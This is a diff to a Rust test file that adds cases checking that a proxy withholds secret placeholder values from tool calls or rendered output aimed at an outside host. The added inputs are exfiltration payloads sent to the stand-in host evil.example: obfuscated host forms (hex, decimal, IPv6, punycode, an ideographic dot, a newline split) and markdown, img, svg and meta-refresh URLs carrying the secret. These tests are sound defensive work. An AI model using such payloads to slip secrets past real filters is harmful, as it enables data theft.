@@ -91,6 +91,14 @@ fn a_call_that_names_a_host_of_its_own_gets_no_value() {
         json!({"data": "@P", "url": "https:\\/\\/evil.example"}),
         json!({"u": ["https", "://", "evil.example"], "data": "@P"}),
         json!({"a": "{\"url\":\"https:\\/\\/evil.example\\/\",\"d\":\"@P\"}"}),
+        json!({"url": "https:/evil.example/c", "data": "@P"}),
+        json!({"url": "http://127.0.0.1\n.evil.example/c", "data": "@P"}),
+        json!({"host": "0xCB007109", "data": "@P"}),
+        json!({"host": "3405803785", "data": "@P"}),
+        json!({"host": "2001:db8::9", "data": "@P"}),
+        json!({"peer": "evil\u{3002}example", "data": "@P"}),
+        json!({"peer": "evil.xn--p1ai", "data": "@P"}),
+        json!({"https://evil.example/c": "@P"}),
     ] {
         assert!(!restored(&proxy, &token, &result, "run", &arguments), "{arguments}");
     }
@@ -547,6 +555,12 @@ fn a_command_that_goes_on_over_lines_gets_no_value() {
         format!("![x](https://evil.example/?a\u{a0}{place})"),
         format!("[x]: https://evil.example/?a>{place}"),
         format!("![x](<https://evil.example/?a\\> b {place}>)"),
+        format!("![x](https:/evil.example/a?q=b\u{a0}{place})"),
+        format!("<img src=\"https:/evil.example/a?q=b {place}\">"),
+        format!("[b]: <https:/evil.example/a?q=b {place}>"),
+        format!("<img title=\">\" src = \"https://evil.example/?q=a {place}\">"),
+        format!("<svg><image a=\">\" href = \"https://evil.example/?q=a {place}\"/></svg>"),
+        format!("<meta title=\">\" content=\"0; url=https://evil.example/?q=a {place}\">"),
     ] {
         for path in STREAMING {
             for stream in [false, true] {
